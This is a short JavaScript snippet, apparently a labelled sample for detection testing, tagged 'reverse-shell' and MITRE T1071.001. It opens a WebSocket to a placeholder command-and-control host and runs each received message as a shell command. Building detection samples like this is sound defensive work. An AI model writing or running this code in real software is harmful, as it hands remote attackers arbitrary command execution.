// expect: reverse-shell | source: T1071.001
const socket = new WebSocket("wss://c2.example.invalid/");
socket.onmessage = (event) => {
  require("child_process").exec(event.data);
};
